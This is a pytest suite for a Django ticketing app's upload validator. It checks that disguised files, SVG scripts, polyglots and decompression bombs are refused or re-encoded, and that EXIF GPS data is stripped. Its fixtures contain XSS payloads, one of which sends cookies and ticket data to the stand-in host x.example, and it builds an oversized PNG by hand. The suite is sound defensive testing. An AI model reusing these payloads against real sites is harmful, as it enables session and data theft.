"""Hostile uploads to both ways a file reaches a ticket: the tickets API's attachment endpoint and a
workstation's photos. One validator and cleaner (core.photos) serves both, so a file is
refused with the same message on either path, or stored as a re-encoded copy that carries no
EXIF position, no script and no bytes after the image. A refusal stores nothing.
"""

from __future__ import annotations

import io
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin

from dispatch import services
from dispatch.models import Attachment
from tests.dispatch.fieldwork.images import (
    HTML_AS_JPEG,
    PHOTO_LAT,
    bomb_png,
    image_bytes,
    oversized_jpeg,
    phone_exif,
)
from tests.helpers import CHANGQING, make_ticket

pytestmark = pytest.mark.django_db

REAL_SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
    b'<script>fetch("/api/tickets/").then(r=>r.text()).then(t=>navigator.sendBeacon("//x.example",t))</script>'
    b'<rect width="64" height="64" fill="red"/></svg>'
)
SCRIPT_AS_JPEG = b"/*\xff\xd8*/ document.location='//x.example/?c='+document.cookie;"


def jpeg_with_html_tail() -> bytes:
    """A polyglot: a real JPEG that a browser sniffing the bytes could also read as a page."""
    return image_bytes("JPEG") + b"<html><body><script>alert(document.domain)</script></body></html>"


def png_with_script_in_text_chunk() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    out = io.BytesIO()
    Image.new("RGB", (32, 32), (10, 120, 200)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def huge_dimensions_png(width: int = 9_000, height: int = 9_000) -> bytes:
    """81 megapixels in some 100 kB: below Pillow's own bomb limit (89 MP), above ours (64 MP).
    Written by hand, row by row, so that the test itself never holds the pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    row = b"\x00" + b"\x00" * ((width + 7) // 8)  # filter byte + 1-bit pixels
    z = zlib.compressobj(9)
    data = b"".join(z.compress(row) for _ in range(height)) + z.flush()
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([1, 0, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def truncated_jpeg() -> bytes:
    return image_bytes("JPEG", size=(1200, 900))[:3000]


HOSTILE = {
    # name, bytes, declared type, words of the message (English source; the suite runs in en)
    "html renamed .jpg": ("photo.jpg", HTML_AS_JPEG, "image/jpeg", "is not a photo"),
    "real svg": ("drawing.svg", REAL_SVG, "image/svg+xml", "is not a photo"),
    "svg renamed .png": ("photo.png", REAL_SVG, "image/png", "is not a photo"),
    "script renamed .jpg": ("photo.jpg", SCRIPT_AS_JPEG, "image/jpeg", "is not a photo"),
    "oversized": ("huge.jpg", oversized_jpeg(), "image/jpeg", "at most 10 MB"),
    "decompression bomb (400 MP)": ("bomb.png", bomb_png(), "image/png", "too many pixels"),
    "huge dimensions in a small png (81 MP)": ("big.png", huge_dimensions_png(), "image/png", "too many pixels"),
    "truncated jpeg": ("cut.jpg", truncated_jpeg(), "image/jpeg", "could not be read"),
    "empty file": ("empty.jpg", b"", "image/jpeg", "is not a photo"),
}


@pytest.fixture
def drain(db, users):
    ticket = make_ticket(code=CHANGQING, category="0101")
    services.sign_for(ticket=ticket, by=users["changqing_grid"])
    return ticket


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.LANGUAGE_CODE = "en"


def via_api(client, ticket, name, data, content_type):
    resp = client.post(
        f"/api/tickets/{ticket.number}/attachments/",
        {"file": SimpleUploadedFile(name, data, content_type=content_type)},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    return resp.status_code, " ".join(resp.json().get("file", [])) if resp.status_code == 400 else resp.json()


def via_workstation(client, ticket, name, data, content_type):
    resp = client.post(
        f"/w/t/{ticket.number}/photos/",
        {"photos-photos": [SimpleUploadedFile(name, data, content_type=content_type)]},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    return resp.status_code, resp.content.decode()


@pytest.mark.parametrize("case", list(HOSTILE))
@pytest.mark.parametrize("path", [via_api, via_workstation], ids=["api", "workstation"])
def test_a_hostile_file_is_refused_on_both_paths_with_a_message_naming_it(as_user, drain, case, path):
    name, data, content_type, words = HOSTILE[case]
    client = as_user("changqing_grid")
    status, message = path(client, drain, name, data, content_type)
    assert status == 400
    assert name in message and words in message
    assert not Attachment.objects.filter(ticket=drain).exists()


def stored_bytes(attachment: Attachment) -> bytes:
    with attachment.file.open("rb") as f:
        return f.read()


def test_a_phone_photo_through_the_api_loses_its_gps_position_and_device(as_user, drain):
    data = image_bytes("JPEG", exif=phone_exif())
    assert b"HUAWEI" in data  # the phone wrote its make and position
    status, body = via_api(as_user("changqing_grid"), drain, "IMG_0001.jpg", data, "image/jpeg")
    assert status == 201, body
    attachment = Attachment.objects.get(ticket=drain)
    stored = stored_bytes(attachment)
    reopened = Image.open(io.BytesIO(stored))
    assert reopened.format == "JPEG" and not reopened.getexif()
    assert b"HUAWEI" not in stored and b"GPS" not in stored and b"Exif" not in stored
    assert attachment.name == "IMG_0001.jpg" and "IMG_0001" not in attachment.file.name  # random name on disk
    assert body["content_type"] == "image/jpeg"
    served = as_user("changqing_grid").get(body["url"])
    assert b"".join(served.streaming_content) == stored and served["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    "name, data, marker",
    [
        ("polyglot.jpg", jpeg_with_html_tail(), b"<script"),
        ("comment.png", png_with_script_in_text_chunk(), b"<script"),
    ],
)
def test_a_polyglot_is_stored_as_pixels_only(as_user, drain, name, data, marker):
    status, body = via_api(as_user("changqing_grid"), drain, name, data, "image/jpeg")
    assert status == 201, body
    stored = stored_bytes(Attachment.objects.get(ticket=drain))
    assert marker in data and marker not in stored
    assert Image.open(io.BytesIO(stored)).size == Image.open(io.BytesIO(data)).size


def test_a_heic_photo_through_the_api_is_served_as_jpeg(as_user, drain):
    status, body = via_api(
        as_user("changqing_grid"), drain, "IMG_0002.HEIC", image_bytes("HEIF", exif=phone_exif()), "image/heic"
    )
    assert status == 201, body
    assert body["content_type"] == "image/jpeg"
    assert Image.open(io.BytesIO(stored_bytes(Attachment.objects.get(ticket=drain)))).format == "JPEG"


def test_the_workstation_keeps_the_position_as_data_while_the_api_and_the_workstation_serve_none(as_user, drain):
    """One cleaner: the same photo by either path is stored without EXIF; the workstation also records
    where the phone says it was (Photo.exif_point), which is never served."""
    data = image_bytes("JPEG", exif=phone_exif())
    client = as_user("changqing_grid")
    via_api(client, drain, "a.jpg", data, "image/jpeg")
    via_workstation(client, drain, "b.jpg", data, "image/jpeg")
    api_copy, field_copy = Attachment.objects.filter(ticket=drain).order_by("id")
    assert stored_bytes(api_copy) == stored_bytes(field_copy)  # the same re-encoded pixels
    assert round(field_copy.photo.exif_point.y, 3) == round(PHOTO_LAT, 3)
    assert b"GPS" not in stored_bytes(field_copy)
